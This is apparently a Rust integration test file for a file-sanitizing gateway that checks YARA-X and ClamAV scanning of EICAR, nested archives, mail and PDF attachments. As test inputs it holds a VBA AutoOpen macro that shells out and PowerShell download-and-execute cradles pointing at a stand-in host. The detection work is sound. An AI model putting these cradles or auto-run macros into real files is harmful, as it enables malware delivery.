//! Multi-scan beside the rebuild: YARA-X with the starter rules of `rules/`
//! and a real `clamd` (Debian's clamav-daemon) started on loopback with a
//! throwaway configuration and its own signatures (the test kit's
//! [`TestClamd`]); no signature is downloaded. Without clamd the tests
//! that need it skip, unless `SEKISHO_REQUIRE_ORACLES=1`.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use common::kit::clamd::{EICAR, TestClamd};
use common::{cache_dir, free_port, kit, root, spawn_server_logged, within};
use sekisho::policy::Policy;
use sekisho::report::{Disposition, Outcome, ReasonKind, Report};
use sekisho::scan::Scanners;
use sekisho::scan::clamd::Clamd;
use sekisho::scan::yara::YaraRules;
use sekisho::source::Source;
use sekisho::{Sanitized, Sekisho};

/// A VBA module that shells out as soon as the document opens.
const SHELL_MODULE: &str = "Attribute VB_Name = \"Updater\"\r\n\
    Sub AutoOpen()\r\n\
    \x20   Shell \"cmd.exe /c calc.exe\", vbHide\r\n\
    End Sub\r\n";

fn starter_rules() -> PathBuf {
    root().join("rules")
}

/// An engine with the starter rules, and clamd when given.
fn engine(clamd: Option<&str>) -> Sekisho {
    let mut scanners =
        Scanners::none().with_yara(YaraRules::load(&starter_rules()).expect("the starter rules compile"));
    if let Some(address) = clamd {
        scanners = scanners.with_clamd(Clamd::new(address.parse().unwrap()).timeout(Duration::from_secs(30)));
    }
    Sekisho::builder().cache_dir(cache_dir()).scanners(scanners).build().expect("engine")
}

fn policy(toml: &str) -> Policy {
    Policy::from_toml(toml, "scan-test.toml").unwrap()
}

fn sanitize(engine: &Sekisho, name: &str, data: &[u8], policy: &Policy) -> Sanitized {
    engine.sanitize(Source::bytes(data.to_vec()), name, policy)
}

/// Every report of the tree, the file's own first.
fn reports(report: &Report) -> Vec<&Report> {
    let mut all = vec![report];
    for child in &report.children {
        all.extend(reports(child));
    }
    all
}

/// The engines that matched in `report` itself (not in its children).
fn engines_matched(report: &Report) -> Vec<&str> {
    report.scans.iter().filter(|s| !s.matches.is_empty()).map(|s| s.engine.as_str()).collect()
}

const SCAN_ALL: &str = "[scan]\nwhat = \"all\"\n";

#[test]
fn eicar_is_blocked_by_both_engines_alone_in_a_zip_in_a_mail_and_attached_to_a_pdf() {
    let Some(clamd) = TestClamd::start() else { return };
    let engine = engine(Some(&clamd.address));
    let policy = policy(SCAN_ALL);

    let alone = sanitize(&engine, "eicar.txt", EICAR, &policy);
    let report = &alone.report;
    assert_eq!(report.outcome, Outcome::Blocked, "{}", report.summary());
    assert!(alone.output.is_none());
    assert_eq!(report.reason.as_ref().unwrap().class.as_deref(), Some("malware"));
    assert_eq!(engines_matched(report), ["yara-x", "clamav"], "{:?}", report.scans);
    let clamav = report.scans.iter().find(|s| s.engine == "clamav").unwrap();
    assert!(clamav.version.starts_with("ClamAV "), "{}", clamav.version);
    assert!(clamav.matches[0].starts_with("Sekisho.Test.EICAR"), "{:?}", clamav.matches);
    let yara = report.scans.iter().find(|s| s.engine == "yara-x").unwrap();
    assert_eq!(yara.matches, ["eicar.eicar_test_file"]);
    assert!(report.items.iter().any(|i| i.class == "malware" && i.action == Disposition::Blocked));

    // Deflated in a zip, base64 in a mail: neither engine sees it until the
    // plugins hand the member over; the verdict is in the member's report.
    let zip = kit::fixtures::zip(&[("notes.txt", b"nothing here\n"), ("eicar.txt", EICAR)]);
    let mail = kit::fixtures::eml_with_attachment("bundle", "see attached", "bundle.zip", "application/zip", &zip);
    let nested = sanitize(&engine, "mail.eml", &mail, &policy).report;
    assert_eq!(nested.outcome, Outcome::Blocked, "{}", nested.summary());
    let all = reports(&nested);
    let hit: Vec<&&Report> = all.iter().filter(|r| !engines_matched(r).is_empty()).collect();
    assert_eq!(hit.len(), 1, "{:#?}", all.iter().map(|r| (&r.input.name, &r.scans)).collect::<Vec<_>>());
    assert_eq!(hit[0].input.name, "eicar.txt");
    assert_eq!(engines_matched(hit[0]), ["yara-x", "clamav"]);
    assert_eq!(hit[0].scans[0].location, "mail.eml/bundle.zip/eicar.txt");
    assert!(
        nested.scans.iter().all(|s| s.matches.is_empty() && s.error.is_none()),
        "the mail itself was scanned clean"
    );
    let notes = all.iter().find(|r| r.input.name == "notes.txt").unwrap();
    assert_eq!(notes.scans.len(), 2, "every member is scanned by both engines");
    assert!(nested.reason.as_ref().unwrap().detail.contains("eicar.txt"), "{:?}", nested.reason);

    // Encoded in the PDF, as attachments are: the PDF itself scans clean.
    let pdf = kit::pdf::with_encoded_attachments(&[("eicar.txt", EICAR)]);
    let attached = sanitize(&engine, "report.pdf", &pdf, &policy).report;
    assert_eq!(attached.outcome, Outcome::Blocked, "{}", attached.summary());
    let child = attached.children.iter().find(|c| c.input.name == "eicar.txt").expect("the attachment's report");
    assert_eq!(engines_matched(child), ["yara-x", "clamav"]);
    assert!(engines_matched(&attached).is_empty(), "the verdict is the attachment's, not the PDF's");

    // The same clamd over its Unix socket.
    let socket = format!("unix:{}", clamd.socket.display());
    let local = Scanners::none().with_clamd(Clamd::new(socket.parse().unwrap()));
    let local = Sekisho::builder().cache_dir(cache_dir()).scanners(local).build().unwrap();
    let report = sanitize(&local, "eicar.txt", EICAR, &policy).report;
    assert_eq!(engines_matched(&report), ["clamav"], "{:?}", report.scans);
    assert_eq!(sanitize(&local, "data.csv", b"a,b\n1,2\n", &policy).report.outcome, Outcome::Clean);

    // clamd stopped: files that need a scan fail closed, or pass saying so.
    let mut clamd = clamd;
    clamd.stop();
    let csv = b"date,amount\n2024-04-01,100\n";
    let closed = sanitize(&engine, "data.csv", csv, &policy).report;
    let reason = closed.reason.expect("a reason");
    assert_eq!((closed.outcome, reason.kind), (Outcome::Failed, ReasonKind::ScannerUnavailable));
    assert!(reason.detail.contains("clamav") && reason.detail.contains("unreachable"), "{}", reason.detail);
    let skip = self::policy("[scan]\nwhat = \"all\"\nscanner-down = \"skip\"\n");
    let skipped = sanitize(&engine, "data.csv", csv, &skip).report;
    assert_eq!(skipped.outcome, Outcome::Clean, "{}", skipped.summary());
    assert!(skipped.items.iter().any(|i| i.class == "malware" && i.detail.starts_with("not scanned")));
    assert_eq!(engines_matched(&skipped), Vec::<&str>::new());
    assert!(skipped.scans.iter().any(|s| s.engine == "yara-x" && s.error.is_none()), "YARA-X still scanned it");
}

#[test]
fn a_kept_macro_that_shells_out_on_open_is_blocked_and_a_removed_one_is_reported() {
    let engine = engine(None);
    let docm = kit::office::docm_with_modules("Quarterly figures", &[("Updater", SHELL_MODULE)]);
    let scan_active = "[scan]\nwhat = \"kept-active\"\n";

    let kept = policy(&format!("extends = \"keep-macros\"\n{scan_active}"));
    let blocked = sanitize(&engine, "figures.docm", &docm, &kept).report;
    assert_eq!(blocked.outcome, Outcome::Blocked, "{}", blocked.summary());
    assert_eq!(blocked.reason.as_ref().unwrap().class.as_deref(), Some("malware"));
    let scan = blocked.scans.iter().find(|s| !s.matches.is_empty()).expect("a match");
    assert_eq!(scan.matches, ["vba_autoexec.vba_autoexec_shell_or_download"]);
    assert_eq!(scan.location, "figures.docm: word/vbaProject.bin/Updater", "the module is named");

    let strict = policy(scan_active);
    let removed = sanitize(&engine, "figures.docm", &docm, &strict);
    let report = &removed.report;
    assert_eq!(report.outcome, Outcome::Sanitized, "{}", report.summary());
    assert!(removed.output.is_some());
    assert!(report.items.iter().any(|i| i.class == "macros" && i.action == Disposition::Removed));
    let note = report.items.iter().find(|i| i.class == "malware").expect("the rule's hit is reported");
    assert_eq!(note.action, Disposition::Removed);
    assert_eq!(note.location, "figures.docm: word/vbaProject.bin/Updater");
    assert!(
        note.detail.contains("vba_autoexec_shell_or_download") && note.detail.contains("removed macros"),
        "{}",
        note.detail
    );

    // The harmless macro of the kit (a message box) is kept, scanned clean.
    let harmless = sanitize(&engine, "hello.docm", &kit::office::docm("Hello"), &kept).report;
    assert_eq!(harmless.outcome, Outcome::Clean, "{}", harmless.summary());
    assert_eq!(harmless.scans.len(), 1);
    assert!(harmless.scans[0].matches.is_empty() && harmless.scans[0].location.ends_with("vbaProject.bin/Module1"));

    // Outputs are scanned after the rebuild when asked.
    let outputs = policy("[scan]\nwhat = \"all\"\nscan-outputs = true\n");
    let rebuilt = sanitize(&engine, "hello.docm", &kit::office::docm("Hello"), &outputs).report;
    let locations: Vec<&str> = rebuilt.scans.iter().map(|s| s.location.as_str()).collect();
    assert_eq!(locations, ["hello.docm", "hello.docm: word/vbaProject.bin/Module1", "hello.docm (output)"]);

    // Without [scan], nothing is handed over and nothing is scanned.
    let unscanned = sanitize(&engine, "figures.docm", &docm, &Policy::profile("keep-macros").unwrap()).report;
    assert_eq!(unscanned.outcome, Outcome::Clean, "{}", unscanned.summary());
    assert!(unscanned.scans.is_empty());
}

#[test]
fn a_scanner_that_is_down_fails_files_closed_or_is_skipped_as_the_policy_says() {
    // Nothing listens on this port.
    let dead = format!("127.0.0.1:{}", free_port());
    let scanners = Scanners::none().with_clamd(Clamd::new(dead.parse().unwrap()).timeout(Duration::from_secs(5)));
    let engine = Sekisho::builder().cache_dir(cache_dir()).scanners(scanners).build().unwrap();
    let csv = b"date,amount\n2024-04-01,100\n";

    let closed = sanitize(&engine, "data.csv", csv, &policy(SCAN_ALL));
    let reason = closed.report.reason.as_ref().expect("a reason");
    assert_eq!((closed.report.outcome, reason.kind), (Outcome::Failed, ReasonKind::ScannerUnavailable));
    assert!(reason.detail.contains("clamav") && reason.detail.contains("unreachable"), "{}", reason.detail);
    assert!(closed.output.is_none());

    let skip = policy("[scan]\nwhat = \"all\"\nscanner-down = \"skip\"\n");
    let skipped = sanitize(&engine, "data.csv", csv, &skip);
    assert_eq!(skipped.report.outcome, Outcome::Clean, "{}", skipped.report.summary());
    let note = skipped.report.items.iter().find(|i| i.class == "malware").expect("a finding says so");
    assert_eq!(note.action, Disposition::Kept);
    assert!(note.detail.starts_with("not scanned") && note.detail.contains("skip"), "{}", note.detail);

    // A policy that asks for scans without any scanner configured fails closed too.
    let none = Sekisho::builder().cache_dir(cache_dir()).build().unwrap();
    let unconfigured = sanitize(&none, "data.csv", csv, &policy(SCAN_ALL)).report;
    assert_eq!(unconfigured.reason.map(|r| r.kind), Some(ReasonKind::ScannerUnavailable));
    // Without [scan] and without scanners nothing changes.
    assert_eq!(sanitize(&none, "data.csv", csv, &Policy::default()).report.outcome, Outcome::Clean);
}

#[test]
fn files_no_plugin_handles_pass_unchanged_only_when_every_scanner_finds_them_clean() {
    let engine = engine(None);
    let pass = policy("[scan]\nunsupported = \"pass-if-clean\"\n");
    let unknown: Vec<u8> = (0..4096u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8).collect();

    let passed = sanitize(&engine, "measurements.dat", &unknown, &pass);
    assert_eq!(passed.report.outcome, Outcome::Clean, "{}", passed.report.summary());
    assert_eq!(passed.output.as_deref(), Some(&unknown[..]), "passed unchanged");
    assert_eq!(passed.report.scans.len(), 1);
    let note = passed.report.items.iter().find(|i| i.class == "unknown-parts").unwrap();
    assert!(note.detail.contains("passed unchanged") && note.detail.contains("yara-x"), "{}", note.detail);
    assert_eq!(passed.report.output.as_ref().unwrap().extension, "dat");

    // Today's behaviour by default: refused, but scanned and reported.
    let refused = sanitize(&engine, "measurements.dat", &unknown, &Policy::default()).report;
    assert_eq!(refused.outcome, Outcome::Unsupported);
    assert_eq!(refused.scans.len(), 1, "files no plugin handles are scanned");

    let mut carrying = unknown.clone();
    carrying[1000..1000 + EICAR.len()].copy_from_slice(EICAR);
    let infected = sanitize(&engine, "measurements.dat", &carrying, &pass).report;
    assert_eq!(infected.outcome, Outcome::Blocked, "{}", infected.summary());
    assert_eq!(infected.reason.unwrap().class.as_deref(), Some("malware"));

    // A program never passes, clean or not.
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    elf.resize(4096, 0);
    let program = sanitize(&engine, "tool", &elf, &pass).report;
    assert_eq!(program.outcome, Outcome::Unsupported, "{}", program.summary());
    assert_eq!(program.reason.unwrap().class.as_deref(), Some("executables"));
}

#[test]
fn the_starter_rules_catch_what_their_comments_say_and_not_their_look_alikes() {
    let rules = YaraRules::load(&starter_rules()).unwrap();
    assert!(rules.len() >= 5, "{} rules", rules.len());
    let matches = |data: &[u8]| rules.scan(data).unwrap();

    assert_eq!(matches(EICAR), ["eicar.eicar_test_file"]);
    assert_eq!(matches(SHELL_MODULE.as_bytes()), ["vba_autoexec.vba_autoexec_shell_or_download"]);
    let fetcher = "Private Sub Workbook_Open()\r\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub\r\n";
    assert_eq!(matches(fetcher.as_bytes()), ["vba_autoexec.vba_autoexec_shell_or_download"]);
    // A macro that shells out only when a button is clicked, and one that runs on open without shelling out.
    assert!(matches(b"Sub Button1_Click()\r\n Shell \"notepad.exe\"\r\nEnd Sub\r\n").is_empty());
    assert!(matches(kit::ovba::AUTO_OPEN_MODULE.as_bytes()).is_empty());

    let cradle = b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\"";
    assert_eq!(matches(cradle), ["powershell_cradle.powershell_download_cradle"]);
    let wide: Vec<u8> = "iex (iwr https://x.test/p.ps1)".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(matches(&wide), ["powershell_cradle.powershell_download_cradle"]);
    assert!(matches(b"Use Invoke-WebRequest to download the installer from the portal.").is_empty());

    // A PE inside a document: MZ, e_lfanew, "PE\0\0"; and a Linux program.
    let mut pe = vec![0u8; 0x200];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let mut document = b"%PDF-1.7\n1 0 obj << /Type /EmbeddedFile >> stream\n".to_vec();
    document.extend(&pe);
    assert_eq!(matches(&document), ["embedded_executable.embedded_pe"]);
    assert!(matches(&pe).is_empty(), "a program on its own is the executables class, not this rule");
    assert!(matches(b"%PDF-1.7 MZ appears in text, PE\0\0 too").is_empty());
    let mut elf = b"PK\x03\x04 archive".to_vec();
    elf.extend(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0");
    assert_eq!(matches(&elf), ["embedded_executable.embedded_elf"]);

    // A rule that does not compile names its file; the rules in use stay.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("broken.yar"), "rule broken { condition: nonsense }").unwrap();
    let error = YaraRules::load(dir.path()).err().expect("a compile error");
    assert!(error.contains("broken.yar"), "{error}");
    let empty = tempfile::tempdir().unwrap();
    assert!(YaraRules::load(empty.path()).err().unwrap().contains("no .yar"));
}

/// Sends one file to the HTTP API; the status and the body.
fn post(address: std::net::SocketAddr, name: &str, data: &[u8]) -> (u16, String) {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let head = format!(
        "POST /v1/sanitize?name={name} HTTP/1.1\r\nHost: test\r\nContent-Type: application/octet-stream\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n",
        data.len()
    );
    stream.write_all(head.as_bytes()).unwrap();
    stream.write_all(data).unwrap();
    let mut reply = Vec::new();
    stream.read_to_end(&mut reply).unwrap();
    let text = String::from_utf8_lossy(&reply).into_owned();
    let status = text.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    (status, text)
}

fn get(address: std::net::SocketAddr, path: &str) -> String {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n").as_bytes()).unwrap();
    let mut reply = String::new();
    stream.read_to_string(&mut reply).unwrap();
    reply
}

#[test]
fn the_gateway_reloads_rules_on_sighup_counts_scans_and_answers_503_when_clamd_is_down() {
    let work = tempfile::tempdir().unwrap();
    let rules = work.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::copy(starter_rules().join("eicar.yar"), rules.join("eicar.yar")).unwrap();
    let policy_file = work.path().join("policy.toml");
    std::fs::write(&policy_file, "[scan]\nwhat = \"all\"\n").unwrap();
    let audit = work.path().join("audit.jsonl");
    let dead = format!("127.0.0.1:{}", free_port());
    let start = |clamd: Option<&str>| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_sekisho"));
        command
            .args(["serve", "--listen", "127.0.0.1:0", "--rules"])
            .arg(&rules)
            .arg("--policy")
            .arg(&policy_file)
            .arg("--audit")
            .arg(&audit)
            .env("SEKISHO_CACHE_DIR", cache_dir())
            .env_remove("SEKISHO_TOKEN");
        if let Some(address) = clamd {
            command.args(["--clamd", address, "--clamd-timeout-ms", "3000"]);
        }
        spawn_server_logged(&mut command)
    };

    let (mut server, address, log) = start(None);
    let marker = b"date,note\n2024-04-01,SEKISHO-RELOAD-MARKER\n";
    assert_eq!(post(address, "notes.csv", marker).0, 200, "no rule knows the marker yet");
    std::fs::write(
        rules.join("marker.yar"),
        "rule reload_marker { strings: $m = \"SEKISHO-RELOAD-MARKER\" condition: $m }",
    )
    .unwrap();
    // SAFETY: kill(2) on our own child.
    assert_eq!(unsafe { libc::kill(server.id() as i32, libc::SIGHUP) }, 0);
    let reloaded = within(Duration::from_secs(30), || {
        String::from_utf8_lossy(&log.lock().unwrap()).contains("YARA rules compiled and in use")
    });
    assert!(reloaded.is_some(), "{}", String::from_utf8_lossy(&log.lock().unwrap()));
    let (status, body) = post(address, "notes.csv", marker);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("marker.reload_marker"), "{body}");
    let metrics = get(address, "/metrics");
    assert!(metrics.contains("sekisho_scans_total{engine=\"yara-x\"} 2"), "{metrics}");
    assert!(metrics.contains("sekisho_scan_hits_total{engine=\"yara-x\"} 1"), "{metrics}");
    assert!(metrics.contains("sekisho_scan_seconds_total{engine=\"yara-x\"}"), "{metrics}");
    // A broken rule file on SIGHUP: the rules in use stay.
    std::fs::write(rules.join("zz-broken.yar"), "rule broken {").unwrap();
    assert_eq!(unsafe { libc::kill(server.id() as i32, libc::SIGHUP) }, 0);
    let kept = within(Duration::from_secs(30), || {
        String::from_utf8_lossy(&log.lock().unwrap()).contains("the rules in use stay")
    });
    assert!(kept.is_some(), "{}", String::from_utf8_lossy(&log.lock().unwrap()));
    assert_eq!(post(address, "notes.csv", marker).0, 403);
    std::fs::remove_file(rules.join("zz-broken.yar")).unwrap();
    let _ = server.kill();
    let _ = server.wait();

    let lines = std::fs::read_to_string(&audit).unwrap();
    let blocked: serde_json::Value = lines.lines().map(|l| serde_json::from_str(l).unwrap()).nth(1).unwrap();
    assert_eq!(blocked["outcome"], "blocked", "{blocked}");
    assert_eq!(blocked["scanned"], 1);
    let verdict = blocked["scans"][0].as_str().unwrap();
    assert!(verdict.starts_with("yara-x ") && verdict.ends_with("notes.csv: marker.reload_marker"), "{verdict}");

    // clamd down: the gateway says "try again later".
    let (mut server, address, _) = start(Some(&dead));
    let (status, body) = post(address, "notes.csv", b"a,b\n1,2\n");
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("could not be scanned") && body.contains("clamav"), "{body}");
    let _ = server.kill();
    let _ = server.wait();
}

#[test]
fn an_attachment_the_policy_keeps_is_scanned_as_an_active_part() {
    let engine = engine(None);
    let keep = policy("[classes]\nembedded-files = \"allow\"\n[scan]\nwhat = \"kept-active\"\n");
    let pdf = kit::pdf::with_encoded_attachments(&[("payload.txt", EICAR)]);
    let report = sanitize(&engine, "report.pdf", &pdf, &keep).report;
    assert_eq!(report.outcome, Outcome::Blocked, "{}", report.summary());
    let scan = report.scans.iter().find(|s| !s.matches.is_empty()).expect("the kept attachment was scanned");
    assert_eq!(scan.location, "report.pdf: embedded file \"payload.txt\"");
    let clean = kit::pdf::with_attachments(&[("notes.txt", b"nothing to see")]);
    assert_eq!(sanitize(&engine, "report.pdf", &clean, &keep).report.outcome, Outcome::Clean);
}

#[test]
fn pdf_javascript_is_scanned_as_an_active_part() {
    let engine = engine(None);
    let cradle =
        "var c = 'powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://x.test/a\\')\"';";
    let pdf = kit::pdf::build(&kit::pdf::Spec {
        pages: 1,
        lines: 2,
        open_action_js: Some(cradle.into()),
        ..kit::pdf::Spec::default()
    });
    let kept = policy("[classes]\nscripts = \"allow\"\nauto-actions = \"allow\"\n[scan]\nwhat = \"kept-active\"\n");
    let blocked = sanitize(&engine, "form.pdf", &pdf, &kept).report;
    assert_eq!(blocked.outcome, Outcome::Blocked, "{}", blocked.summary());
    let hit = blocked.scans.iter().find(|s| !s.matches.is_empty()).expect("the script was scanned");
    assert_eq!(hit.matches, ["powershell_cradle.powershell_download_cradle"]);
    assert!(hit.location.starts_with("form.pdf: object ") && hit.location.ends_with("/JS"), "{}", hit.location);

    let removed = sanitize(&engine, "form.pdf", &pdf, &policy("[scan]\nwhat = \"kept-active\"\n")).report;
    assert_eq!(removed.outcome, Outcome::Sanitized, "{}", removed.summary());
    let note = removed.items.iter().find(|i| i.class == "malware").expect("reported on the removed script");
    assert_eq!(note.action, Disposition::Removed);
    assert!(note.detail.contains("removed scripts"), "{}", note.detail);
}
